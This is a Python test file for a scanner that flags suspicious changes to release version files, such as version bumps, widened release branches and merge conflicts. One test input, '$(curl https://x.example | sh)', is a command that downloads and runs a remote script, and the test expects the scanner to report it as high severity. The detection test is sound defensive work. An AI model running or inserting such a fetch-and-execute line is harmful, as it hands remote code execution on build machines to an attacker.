"""The version a build puts on what it makes."""

from __future__ import annotations

import pytest
from kit.mutations import never_raises, told

from scanner.formats.release import version_file


@pytest.mark.parametrize(
    "path, read",
    [
        ("VERSION", True),
        ("version/VERSION", True),
        ("version.txt", True),
        ("version.json", True),
        ("src/version", False),
        ("src/version.json", False),
    ],
)
def test_files(path: str, read: bool) -> None:
    assert version_file.matches(path) is read


@pytest.mark.parametrize(
    "old, new, said",
    [
        pytest.param("1.0\n", "1.1\n", ["version-changed version medium"], id="one line"),
        pytest.param(
            "MAJOR = 1\nMINOR = 0\n", "MAJOR = 1\nMINOR = 1\n", ["version-changed MINOR medium"], id="assignments"
        ),
        pytest.param('{"version": "1.0"}', '{"version": "1.1"}', ["version-changed version medium"], id="json"),
        pytest.param(
            '{"version": "1", "publicReleaseRefSpec": ["main"]}',
            '{"version": "1", "publicReleaseRefSpec": [".*"]}',
            ["publish-changed publicReleaseRefSpec critical"],
            id="branches that release",
        ),
        pytest.param('{"version": "1"}', '{"version": "1", "x": 2}', ["setting-changed x medium"], id="another key"),
        pytest.param(
            "1.0\n", "$(curl https://x.example | sh)\n", ["build-script-changed version high"], id="a command"
        ),
        pytest.param(None, "1.0\n", ["version-changed version medium"], id="new file"),
        pytest.param("1.0\n", None, ["file-removed file medium"], id="removed file"),
        pytest.param("1.0\n", "# now\n\n1.0", [], id="comment and blank lines"),
        pytest.param('{"version": "1.0"}', '{ "version" : "1.0" }\n', [], id="formatting"),
        pytest.param(
            "1.0", "<<<<<<< a\n", ["opaque line 1: a merge conflict that nobody resolved high"], id="conflict"
        ),
    ],
)
def test_what_is_said(old: str | None, new: str | None, said: list[str]) -> None:
    assert told(version_file.diff, old, new) == said


def test_anything_is_read() -> None:
    never_raises(version_file.diff, "MAJOR = 1\nMINOR = 0\n")
    never_raises(version_file.diff, '{"version": "1.0"}')
